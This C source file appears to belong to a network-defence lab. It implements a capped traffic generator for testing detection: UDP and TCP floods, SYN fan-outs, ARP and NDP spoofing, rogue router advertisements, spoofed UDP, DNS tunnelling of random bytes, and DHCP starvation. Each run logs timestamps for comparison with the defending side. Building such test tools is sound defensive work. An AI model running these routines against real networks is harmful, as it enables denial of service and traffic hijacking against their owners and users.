/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacks of the lab: plain frames and packets, no exploit, nothing that
 * copies itself.  Each takes a count or a time and has a hard limit on both.
 * Each prints what it sent, with the times, so that the other side can be held
 * against it:  sent COUNT FIRST_US LAST_US  (microseconds of the real clock).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/ether.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "frame.h"
#include "net.h"

#define FACTS "/run/lab/address"

enum {
	COUNT_MAX = 200000,
	SECONDS_MAX = 60,
	ONE_SECOND_MS = 1000,
};

struct tally {
	long sent;
	int64_t first_us, last_us;
};

static int64_t
wall_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_REALTIME, &t);
	return (int64_t)t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static void
tally_add(struct tally *tally)
{
	tally->last_us = wall_us();
	if (!tally->sent++)
		tally->first_us = tally->last_us;
}

static int
tally_print(const struct tally *tally)
{
	printf("sent %ld %lld %lld\n", tally->sent, (long long)tally->first_us,
		(long long)tally->last_us);
	return tally->sent ? 0 : 1;
}

static void
mac_parse(const char *text, uint8_t mac[static ETH_ALEN])
{
	const struct ether_addr *parsed = ether_aton(text);

	if (!parsed) {
		fprintf(stderr, "\"%s\" is not a MAC address\n", text);
		exit(2);
	}
	memcpy(mac, parsed, ETH_ALEN);
}

static struct in_addr
ip4_parse(const char *text)
{
	struct endpoint endpoint;

	if (!endpoint_find(&endpoint, FACTS, text, 0, AF_INET)) {
		fprintf(stderr, "\"%s\" has no IPv4 address\n", text);
		exit(2);
	}
	return ((const struct sockaddr_in *)&endpoint.address)->sin_addr;
}

static struct in6_addr
ip6_parse(const char *text)
{
	struct endpoint endpoint;

	if (!endpoint_find(&endpoint, FACTS, text, 0, AF_INET6)) {
		fprintf(stderr, "\"%s\" has no IPv6 address\n", text);
		exit(2);
	}
	return ((const struct sockaddr_in6 *)&endpoint.address)->sin6_addr;
}

static long
count_of(const char *word)
{
	return number(word, 1, COUNT_MAX, "count");
}

static long
seconds_of(const char *word)
{
	return number(word, 1, SECONDS_MAX, "seconds");
}

static uint16_t
port_of(const char *word)
{
	return (uint16_t)number(word, 1, 65535, "port");
}

/* lldp INTERFACE URL SECONDS: says its MUD URL every five seconds, as a device does. */
static int
attack_lldp(char **word)
{
	long seconds = number(word[2], 1, 86400, "seconds");
	struct tally tally = {0};
	struct frame frame;
	struct wire wire;

	wire_open(&wire, word[0]);
	frame_lldp(&frame, wire.mac, word[1]);
	for (long passed = 0; passed < seconds; passed += 5) {
		wire_send(&wire, &frame);
		tally_add(&tally);
		sleep(5);
	}
	return tally_print(&tally);
}

/* flood FAMILY TARGET PORT COUNT SECONDS: UDP as fast as it goes. */
static int
attack_flood(char **word)
{
	int family = word[0][0] == '6' ? AF_INET6 : AF_INET;
	long count = count_of(word[3]);
	int64_t end_ms = now_ms() + seconds_of(word[4]) * ONE_SECOND_MS;
	static const char payload[64] = "pinfold lab flood";
	struct tally tally = {0};
	struct endpoint target;
	int fd;

	if (!endpoint_find(&target, FACTS, word[1], port_of(word[2]), family))
		return tally_print(&tally);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return tally_print(&tally);
	/* Not connected: an ICMP error is for this attack no reason to stop. */
	while (tally.sent < count && now_ms() < end_ms)
		if (sendto(fd, payload, sizeof payload, 0, (struct sockaddr *)&target.address,
			    target.len) > 0)
			tally_add(&tally);
		else
			usleep(1000);
	return tally_print(&tally);
}

/* opens FAMILY TARGET PORT COUNT SECONDS: new TCP connections, as fast as it goes. */
static int
attack_opens(char **word)
{
	int family = word[0][0] == '6' ? AF_INET6 : AF_INET;
	long count = count_of(word[3]);
	int64_t end_ms = now_ms() + seconds_of(word[4]) * ONE_SECOND_MS;
	struct linger reset = {.l_onoff = 1};
	struct tally tally = {0};
	struct endpoint target;

	if (!endpoint_find(&target, FACTS, word[1], port_of(word[2]), family))
		return tally_print(&tally);
	while (tally.sent < count && now_ms() < end_ms) {
		int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

		if (fd < 0)
			break;
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
		if (!connect(fd, (struct sockaddr *)&target.address, target.len) ||
			errno == EINPROGRESS)
			tally_add(&tally);
		else
			usleep(1000);
		usleep(50);
		close(fd);
	}
	return tally_print(&tally);
}

/* A SYN, and nothing more. */
static void
knock(const struct endpoint *target, struct tally *tally)
{
	int fd = socket(target->address.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return;
	(void)!connect(fd, (const struct sockaddr *)&target->address, target->len);
	tally_add(tally);
	close(fd);
}

/* fan FAMILY PORT SECONDS TARGET...: one SYN to each, again and again every 50 ms. */
static int
attack_fan(int n, char **word)
{
	int family = word[0][0] == '6' ? AF_INET6 : AF_INET;
	uint16_t port = port_of(word[1]);
	int64_t end_ms = now_ms() + seconds_of(word[2]) * ONE_SECOND_MS;
	struct tally tally = {0};

	while (now_ms() < end_ms) {
		for (int i = 3; i < n; i++) {
			struct endpoint target;

			if (endpoint_find(&target, FACTS, word[i], port, family))
				knock(&target, &tally);
		}
		usleep(50000);
	}
	return tally_print(&tally);
}

/*
 * stray FAMILY ALLOWED PORT SECONDS TARGET...: speaks to a server that it may speak
 * to, a packet each millisecond, and after half a second knocks once at port 23 of
 * every target.  Prints when it knocked: "harm FIRST_US LAST_US".
 */
static int
attack_stray(int n, char **word)
{
	int family = word[0][0] == '6' ? AF_INET6 : AF_INET;
	int64_t begun_ms = now_ms(), end_ms = begun_ms + seconds_of(word[3]) * ONE_SECOND_MS;
	static const char payload[48] = {0x23}; /* a question for the time */
	struct tally tally = {0}, harm = {0};
	struct endpoint allowed, target;
	int fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || !endpoint_find(&allowed, FACTS, word[1], port_of(word[2]), family) ||
		connect(fd, (struct sockaddr *)&allowed.address, allowed.len))
		return tally_print(&tally);
	while (now_ms() < end_ms) {
		if (send(fd, payload, sizeof payload, MSG_DONTWAIT) > 0)
			tally_add(&tally);
		if (!harm.sent && now_ms() - begun_ms > 500)
			for (int i = 4; i < n; i++)
				if (endpoint_find(&target, FACTS, word[i], 23, family))
					knock(&target, &harm);
		usleep(1000);
	}
	printf("harm %lld %lld\n", (long long)harm.first_us, (long long)harm.last_us);
	return tally_print(&tally);
}

/* arp INTERFACE CLAIMED TARGET TARGET_MAC COUNT */
static int
attack_arp(char **word)
{
	long count = count_of(word[4]);
	struct tally tally = {0};
	struct frame frame;
	struct wire wire;
	uint8_t to[ETH_ALEN];

	wire_open(&wire, word[0]);
	mac_parse(word[3], to);
	frame_arp_reply(&frame, wire.mac, ip4_parse(word[1]), to, ip4_parse(word[2]));
	for (long i = 0; i < count; i++, usleep(10000)) {
		wire_send(&wire, &frame);
		tally_add(&tally);
	}
	return tally_print(&tally);
}

/* ndp INTERFACE CLAIMED TARGET TARGET_MAC COUNT */
static int
attack_ndp(char **word)
{
	struct in6_addr claimed = ip6_parse(word[1]), to = ip6_parse(word[2]);
	long count = count_of(word[4]);
	struct tally tally = {0};
	struct frame frame;
	struct wire wire;
	uint8_t to_mac[ETH_ALEN];

	wire_open(&wire, word[0]);
	mac_parse(word[3], to_mac);
	frame_neighbour(&frame, wire.mac, &claimed, to_mac, &to);
	for (long i = 0; i < count; i++, usleep(10000)) {
		wire_send(&wire, &frame);
		tally_add(&tally);
	}
	return tally_print(&tally);
}

/* ra INTERFACE LINK_LOCAL PREFIX COUNT */
static int
attack_ra(char **word)
{
	struct in6_addr from = ip6_parse(word[1]), prefix = ip6_parse(word[2]);
	long count = count_of(word[3]);
	struct tally tally = {0};
	struct frame frame;
	struct wire wire;

	wire_open(&wire, word[0]);
	frame_router(&frame, wire.mac, &from, &prefix);
	for (long i = 0; i < count; i++, usleep(20000)) {
		wire_send(&wire, &frame);
		tally_add(&tally);
	}
	return tally_print(&tally);
}

/* spoof INTERFACE SOURCE_MAC SOURCE NEXT_HOP_MAC TARGET PORT COUNT: UDP in another's name. */
static int
attack_spoof(char **word)
{
	uint8_t from_mac[ETH_ALEN], to_mac[ETH_ALEN];
	long count = count_of(word[6]);
	struct tally tally = {0};
	struct frame frame;
	struct wire wire;

	wire_open(&wire, word[0]);
	mac_parse(word[1], from_mac);
	mac_parse(word[3], to_mac);
	frame_udp4(&frame, to_mac, from_mac, ip4_parse(word[2]), 40000, ip4_parse(word[4]),
		port_of(word[5]), "pinfold lab spoof", 17);
	for (long i = 0; i < count; i++, usleep(5000)) {
		wire_send(&wire, &frame);
		tally_add(&tally);
	}
	return tally_print(&tally);
}

/* tunnel DOMAIN COUNT: carries bytes out in the names that it asks for. */
static int
attack_tunnel(char **word)
{
	long count = number(word[1], 1, 1000, "count");
	struct tally tally = {0};

	for (long i = 0; i < count; i++) {
		struct endpoint ignored;
		uint8_t secret[20];
		char name[256], *at = name;

		if (getrandom(secret, sizeof secret, 0) != sizeof secret)
			break;
		for (size_t b = 0; b < sizeof secret; b++)
			at += sprintf(at, "%02x", secret[b]);
		snprintf(at, sizeof name - 2 * sizeof secret, ".%s", word[0]);
		endpoint_find(&ignored, FACTS, name, 0, AF_INET);
		tally_add(&tally);
	}
	return tally_print(&tally);
}

struct dhcp {
	uint8_t op, htype, hlen, hops;
	uint32_t xid;
	uint16_t secs, flags;
	struct in_addr ciaddr, yiaddr, siaddr, giaddr;
	uint8_t chaddr[16], sname[64], file[128];
	uint32_t magic;
	uint8_t options[64];
};

enum { DHCP_DISCOVER = 1, DHCP_OFFER = 2, DHCP_REQUEST = 3, DHCP_ACK = 5 };

static void
dhcp_send(const struct wire *wire, const uint8_t mac[static ETH_ALEN], uint32_t xid, uint8_t type,
	struct in_addr wanted, struct in_addr server)
{
	static const uint8_t everybody[ETH_ALEN] = {255, 255, 255, 255, 255, 255};
	struct dhcp dhcp = {.op = 1,
		.htype = 1,
		.hlen = 6,
		.xid = xid,
		.flags =
			htons(0x8000), /* answer by broadcast: the address is not ours to receive */
		.magic = htonl(0x63825363),
		.options = {53, 1, type}};
	struct in_addr any = {0}, all = {.s_addr = INADDR_BROADCAST};
	uint8_t *option = dhcp.options + 3;
	struct frame frame;

	memcpy(dhcp.chaddr, mac, ETH_ALEN);
	if (type == DHCP_REQUEST) {
		*option++ = 50;
		*option++ = 4;
		memcpy(option, &wanted, 4);
		option += 4;
		*option++ = 54;
		*option++ = 4;
		memcpy(option, &server, 4);
		option += 4;
	}
	*option = 255;
	frame_udp4(&frame, everybody, mac, any, 68, all, 67, &dhcp, sizeof dhcp);
	wire_send(wire, &frame);
}

/*
 * dhcp INTERFACE COUNT SECONDS: asks for an address in the name of one invented
 * MAC after the other, takes each that is offered, and gives none back.  Ends
 * when so many in a row had no answer: there are none left, or not for us.
 */
enum { DHCP_UNANSWERED_MAX = 15 };

static int
attack_dhcp(char **word)
{
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(68)};
	long count = number(word[1], 1, 5000, "count"), taken = 0;
	int64_t end_ms = now_ms() + seconds_of(word[2]) * ONE_SECOND_MS;
	struct tally tally = {0};
	struct wire wire;
	int on = 1, unanswered = 0;
	int fd;

	wire_open(&wire, word[0]);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on) ||
		setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on) ||
		setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, word[0], (socklen_t)strlen(word[0])) ||
		bind(fd, (struct sockaddr *)&here, sizeof here)) {
		perror("port 68");
		return 1;
	}
	while (tally.sent < count && now_ms() < end_ms && unanswered < DHCP_UNANSWERED_MAX) {
		int64_t patience_ms = now_ms() + 300;
		uint8_t mac[ETH_ALEN];
		struct dhcp in;
		uint32_t xid;

		if (getrandom(mac, sizeof mac, 0) != sizeof mac ||
			getrandom(&xid, sizeof xid, 0) != sizeof xid)
			break;
		mac[0] = 2;
		dhcp_send(&wire, mac, xid, DHCP_DISCOVER, (struct in_addr){0}, (struct in_addr){0});
		tally_add(&tally);
		unanswered++;
		while (readable(fd, patience_ms)) {
			ssize_t len = recv(fd, &in, sizeof in, 0);

			if (len < (ssize_t)offsetof(struct dhcp, options) + 3 || in.xid != xid)
				continue;
			unanswered = 0;
			if (in.options[2] == DHCP_OFFER) {
				struct in_addr server;

				/* dnsmasq puts the server identifier right behind the type. */
				memcpy(&server, in.options + 5, 4);
				dhcp_send(&wire, mac, xid, DHCP_REQUEST, in.yiaddr, server);
			} else {
				taken += in.options[2] == DHCP_ACK;
				break;
			}
		}
	}
	printf("taken %ld\n", taken);
	return tally_print(&tally);
}

static const struct {
	const char *name;
	int words_wanted;
	int (*act)(char **);
	const char *words;
} attacks[] = {
	{"lldp", 3, attack_lldp, "INTERFACE URL SECONDS"},
	{"flood", 5, attack_flood, "4|6 TARGET PORT COUNT SECONDS"},
	{"opens", 5, attack_opens, "4|6 TARGET PORT COUNT SECONDS"},
	{"arp", 5, attack_arp, "INTERFACE CLAIMED TARGET TARGET_MAC COUNT"},
	{"ndp", 5, attack_ndp, "INTERFACE CLAIMED TARGET TARGET_MAC COUNT"},
	{"ra", 4, attack_ra, "INTERFACE LINK_LOCAL PREFIX COUNT"},
	{"spoof", 7, attack_spoof, "INTERFACE SOURCE_MAC SOURCE NEXT_HOP_MAC TARGET PORT COUNT"},
	{"tunnel", 2, attack_tunnel, "DOMAIN COUNT"},
	{"dhcp", 3, attack_dhcp, "INTERFACE COUNT SECONDS"},
};

enum { ATTACKS = sizeof attacks / sizeof *attacks };

int
main(int argc, char **argv)
{
	if (argc >= 6 && !strcmp(argv[1], "fan"))
		return attack_fan(argc - 2, argv + 2);
	if (argc >= 7 && !strcmp(argv[1], "stray"))
		return attack_stray(argc - 2, argv + 2);
	for (size_t i = 0; argc > 1 && i < ATTACKS; i++)
		if (!strcmp(argv[1], attacks[i].name) && argc - 2 == attacks[i].words_wanted)
			return attacks[i].act(argv + 2);
	fputs("usage:\n", stderr);
	for (size_t i = 0; i < ATTACKS; i++)
		fprintf(stderr, "       lab-attack %s %s\n", attacks[i].name, attacks[i].words);
	fputs("       lab-attack stray 4|6 ALLOWED PORT SECONDS TARGET...\n", stderr);
	fputs("       lab-attack fan 4|6 PORT SECONDS TARGET...\n", stderr);
	return 2;
}
